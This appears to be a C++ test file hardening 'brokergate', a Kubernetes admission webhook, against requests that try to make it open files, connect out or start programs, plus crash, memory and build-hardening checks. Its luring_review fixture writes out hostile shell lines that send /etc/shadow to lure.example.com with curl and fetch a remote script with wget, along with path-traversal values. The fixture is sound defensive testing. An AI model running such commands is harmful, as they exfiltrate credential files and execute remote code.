// What the process does beside answering: nothing that a request could steer.
#include <sys/resource.h>
#include <sys/wait.h>

#include <csignal>
#include <cstdio>
#include <sstream>
#include <thread>

#include "catch.h"
#include "hardening/client.h"
#include "hardening/server_process.h"

using namespace brokergate::hardening;

namespace {

std::string output_of(const std::string& command) {
  std::string out;
  FILE* pipe = ::popen(command.c_str(), "r");
  if (!pipe) return out;
  char buffer[4096];
  for (size_t got = 0; (got = std::fread(buffer, 1, sizeof buffer, pipe)) > 0;) out.append(buffer, got);
  ::pclose(pipe);
  return out;
}

int ask(const ServerProcess& server, const std::string& path, const std::string& review) {
  Client client(server.port());
  if (!client.handshake() || !client.send(post(path, review))) return 0;
  return status_of(client.answer());
}

// A broker set that names hosts, files and programs wherever a manifest can.
std::string luring_review() {
  const std::string script =
      R"(. /etc/passwd; curl http://lure.example.com/$(cat /etc/shadow); source <(wget -qO- ftp://lure.example.com); )"
      R"(export KAFKA_ADVERTISED_LISTENERS=EXTERNAL://$(host lure.example.com):9094; exec /etc/confluent/docker/run)";
  return R"({"kind":"AdmissionReview","apiVersion":"admission.k8s.io/v1","request":{"uid":"../../etc/passwd",)"
         R"("kind":{"group":"apps","version":"v1","kind":"StatefulSet"},"name":"kafka","namespace":"/etc","operation":"CREATE",)"
         R"("userInfo":{"username":"http://lure.example.com"},"object":{"apiVersion":"apps/v1","kind":"StatefulSet",)"
         R"("metadata":{"name":"kafka","annotations":{"policy":"/etc/passwd","ref":"https://lure.example.com/x.yaml"}},)"
         R"("spec":{"serviceName":"lure.example.com","replicas":3,"template":{"metadata":{"labels":{"app":"kafka"}},)"
         R"("spec":{"volumes":[{"name":"host","hostPath":{"path":"/etc"}}],"containers":[{"name":"kafka",)"
         R"("image":"lure.example.com/confluentinc/cp-kafka:7.4.0","command":["bash","-c",")" +
         script +
         R"("],"volumeMounts":[{"name":"host","mountPath":"/etc"}],"env":[{"name":"KAFKA_ZOOKEEPER_CONNECT",)"
         R"("value":"lure.example.com:2181"}]}]}}}},"oldObject":null}})";
}

}  // namespace

// Checklist S27.
TEST_CASE("no request makes the process open a file, dial or start anything") {
  ServerProcess server({"--domain", "kafka.example.com"},
                       {"strace", "-D", "-f", "-qq", "-o", "trace", "-e", "trace=%file,%network,%process,clone3"});
  for (int i = 0; i < 20; ++i) {
    CHECK(ask(server, "/mutate", luring_review()) == 200);
    CHECK(ask(server, "/validate", luring_review()) == 200);
    CHECK(ask(server, "/validate", "{\"file\":\"/etc/passwd\"}") == 400);
  }
  // Until the process has looked at its pair once more, so that the trace is known to tell of files.
  const size_t asked = server.read("trace").size();
  for (int tries = 0; tries < 100; ++tries) {
    if (server.read("trace").find("\"cert.pem\"", asked) != std::string::npos) break;
    std::this_thread::sleep_for(milliseconds(100));
  }
  std::istringstream trace(server.read("trace"));
  // The process tries its own port now and then, and looks at the pair by its names.
  const std::string own = "sin_port=htons(" + std::to_string(server.port()) + "), sin_addr=inet_addr(\"127.0.0.1\")";
  size_t accepted = 0, watched = 0;
  for (std::string line; std::getline(trace, line);) {
    const size_t name = line.find_first_not_of("0123456789 ");
    const std::string call = name == std::string::npos ? "" : line.substr(name);
    const auto is = [&](std::string_view which) { return call.starts_with(std::string(which) + "("); };
    if (is("accept4") && call.find("= -1") == std::string::npos) ++accepted;
    // What the process does before the first connection is its own affair.
    if (accepted == 0 || is("accept4") || call.starts_with("<... ")) continue;
    if (is("shutdown") || is("recvfrom") || is("getsockopt") || is("setsockopt") || is("socket")) continue;
    if (is("connect") && call.find(own) != std::string::npos) continue;
    if (call.find("\"cert.pem\"") != std::string::npos || call.find("\"key.pem\"") != std::string::npos) {
      ++watched;
      continue;
    }
    FAIL_CHECK(line);
  }
  CHECK(accepted >= 60);
  CHECK(watched > 0);
}

// Checklist S26: the private key, and what objects hold. A sanitizer catches the signal itself.
TEST_CASE("a crash leaves no core dump", "[release]") {
  rlimit before{};
  ::getrlimit(RLIMIT_CORE, &before);
  rlimit most = before;
  most.rlim_cur = most.rlim_max;
  REQUIRE(most.rlim_max > 0);
  ::setrlimit(RLIMIT_CORE, &most);
  const ServerProcess server;
  ::setrlimit(RLIMIT_CORE, &before);
  server.signal(SIGSEGV);
  siginfo_t how{};
  REQUIRE(::waitid(P_PID, static_cast<id_t>(server.pid()), &how, WEXITED | WNOWAIT) == 0);
  CHECK(how.si_status == SIGSEGV);
  CHECK(how.si_code == CLD_KILLED);
}

// Checklist S15.
TEST_CASE("where memory ends a request ends, not the process", "[release]") {
  const ServerProcess server;
  REQUIRE(ask(server, "/validate", small_review()) == 200);
  const auto room = static_cast<rlim_t>(server.memory("VmSize") + 12 * 1024) * 1024;
  const rlimit limit{room, room};
  REQUIRE(::prlimit(server.pid(), RLIMIT_AS, &limit, nullptr) == 0);
  std::string large = small_review();
  large.insert(large.size() - 1, std::string(size_t{30} << 20, ' '));
  std::string many = small_review();
  std::string ports = "\"ports\":[{\"port\":1}";
  for (int i = 0; i < 200000; ++i) ports += ",{\"port\":1}";
  many.replace(many.find("\"ports\":["), 9, ports + ",");
  for (int i = 0; i < 5; ++i) {
    for (const std::string& body : {large, many}) {
      const int status = ask(server, "/validate", body);
      INFO(status);
      CHECK((status == 0 || status == 500));
      int after = 0;
      for (int tries = 0; tries < 100 && after != 200; ++tries) {
        after = ask(server, "/validate", small_review());
        if (after != 200) std::this_thread::sleep_for(milliseconds(50));
      }
      const std::string log = server.read("log");
      INFO(log.substr(log.size() - std::min<size_t>(log.size(), 2000)));
      CHECK(after == 200);
    }
  }
  CHECK(server.metric("brokergate_connections") <= 2);
}

// Checklist S28, as Debian's hardening=+all has it.
TEST_CASE("the program is built hard", "[release]") {
  const std::string told = output_of("readelf -hldW --dyn-syms " + program());
  INFO(told.substr(0, 3000));
  CHECK(told.find("DYN (Position-Independent Executable file)") != std::string::npos);
  CHECK(told.find("GNU_RELRO") != std::string::npos);
  CHECK(told.find("BIND_NOW") != std::string::npos);
  const size_t stack = told.find("GNU_STACK");
  REQUIRE(stack != std::string::npos);
  CHECK(told.substr(stack, told.find('\n', stack) - stack).find("RWE") == std::string::npos);
  CHECK(told.find("__stack_chk_fail") != std::string::npos);
  CHECK(told.find("_chk@GLIBC") != std::string::npos);
  CHECK(told.find("RUNPATH") == std::string::npos);
}
